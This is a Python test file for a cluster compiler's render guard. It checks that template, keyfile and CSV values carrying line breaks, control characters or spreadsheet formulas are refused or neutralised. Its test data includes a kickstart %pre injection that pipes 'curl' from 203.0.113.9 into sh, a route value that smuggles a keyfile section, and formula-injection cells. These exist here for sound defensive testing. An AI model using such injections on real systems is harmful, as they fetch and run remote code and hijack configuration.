"""`compiler/targets/render.py`: the guard every template's values pass before they are written."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from common.errors import SourceError
from compiler import load
from compiler.pipeline import compile_source
from compiler.plan import build
from compiler.targets import routes
from compiler.targets.render import Lines, UnsafeValue, template, to_csv
from compiler.validation import check
from contract import Route
from tests.conftest import REPO


class _Shown:
    def __init__(self, text: str) -> None:
        self.text = text

    def __str__(self) -> str:
        return self.text


def _site(name: object) -> dict[str, Any]:
    return {"name": name}


@pytest.mark.parametrize(
    "value",
    [
        "rocky\n%pre --interpreter=/bin/sh\ncurl -s http://203.0.113.9/x | sh\n%end\n#",
        "a\rb",
        "tab\there",
        "nul\x00",
        "esc\x1b]0;title\x07",
        "nel\x85",
        "ls\u2028ps\u2029",
    ],
)
def test_a_value_with_a_line_break_or_control_is_refused(value: str) -> None:
    with pytest.raises(UnsafeValue) as raised:
        template("blackbox.yml.j2", site=_site(value))
    assert raised.value.value == value and raised.value.template == "blackbox.yml.j2"
    assert "\n" not in str(raised.value)  # the message quotes it escaped, on one line


def test_plain_text_and_lines_built_on_purpose_pass() -> None:
    assert "Zürich-1 · no-break\u00a0space" in template(
        "blackbox.yml.j2", site=_site("Zürich-1 · no-break\u00a0space")
    )
    # An object whose text is unsafe is caught as a string would be.
    with pytest.raises(UnsafeValue):
        template("blackbox.yml.j2", site=_site(_Shown("two\nlines")))
    # `Lines` is a target's own multi-line text, written as it is.
    assert "two\nlines" in template("blackbox.yml.j2", site=_site(Lines("two\nlines")))


def test_a_keyfile_written_in_python_is_guarded_as_a_template() -> None:
    """Keyfiles are written line by line in Python, not by a template: the same guard
    stands between their values and their lines."""
    plan = build(check(load.load(REPO / "cluster")))
    host = next(h for h in plan.hosts if h.routes)
    iface = host.interfaces[0]
    hostile = "10.0.0.1\n[ipv4]\nmethod=disabled"
    route = Route(dst="10.64.0.0/16", dev=iface.name, gateway=hostile)
    with pytest.raises(UnsafeValue) as raised:
        routes._keyfile(host.name, iface, False, iface.mac, "public", None, (route,), (), "x")
    assert (raised.value.template, raised.value.value) == ("nmconnection", hostile)


def test_the_guard_names_the_field_it_came_from() -> None:
    """Loading refuses such values first; the guard is what stands when a value reaches a
    template by another way, and its error still points at the field."""
    source = load.load(REPO / "cluster")
    hostile = "rocky\n%pre\ncurl -s http://203.0.113.9/x | sh\n%end"
    provisioning = {**source.data["provisioning"], "os": hostile}
    forged = replace(source, data={**source.data, "provisioning": provisioning})

    with pytest.raises(SourceError) as raised:
        compile_source(forged)

    [problem] = raised.value.diagnostics
    assert (str(problem.location), problem.rule) == (
        "cluster/provisioning.yaml:2:1",
        "unsafe-value",
    )
    assert "provisioning.os" in problem.message and "\n" not in problem.message


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text() -> None:
    hostile = ['=HYPERLINK("http://203.0.113.9")', "+1", "-2+3", "@SUM(A1)", "\tx"]
    text = to_csv(["note", "n"], [(cell, -1) for cell in hostile] + [("plain, with = inside", 2)])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in rows[1:]] == [f"'{c}" for c in hostile] + ["plain, with = inside"]
    assert [r[1] for r in rows[1:]] == ["-1"] * len(hostile) + ["2"]  # numbers stay numbers
    # A carriage return cannot come from cluster/ (loading refuses it); written, it is led too.
    assert to_csv(["note"], [("\rx",)]).startswith("note\n'\rx")


def test_csv_without_such_cells_is_written_as_the_csv_module_writes_it() -> None:
    rows = [("gpu001", "mlx5_0/1", 2.5, 'a "quoted" note')]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([("host", "port", "m", "note"), *rows])
    assert to_csv(["host", "port", "m", "note"], rows) == buf.getvalue()


# Cells of the characters the writer treats apart (its delimiter, quote, line ends), and
# others; rows of one cell (an empty one is written quoted) and of numbers or None.
_CELL = st.one_of(
    st.text(alphabet=',"\r\n a1/', max_size=4), st.integers(), st.floats(allow_nan=False),
    st.none(),
)  # fmt: skip


@given(st.lists(st.lists(_CELL, min_size=1, max_size=4), max_size=5), st.integers(1, 3))
def test_csv_of_plain_text_joined_is_what_the_csv_module_writes(
    rows: list[list[object]], width: int
) -> None:
    assume(not any(isinstance(c, str) and c.startswith("\r") for row in rows for c in row))
    columns = [f"c{k}" for k in range(width)]  # a cell led by \r is a formula's: see above
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([columns, *rows])
    assert to_csv(columns, rows) == buf.getvalue()
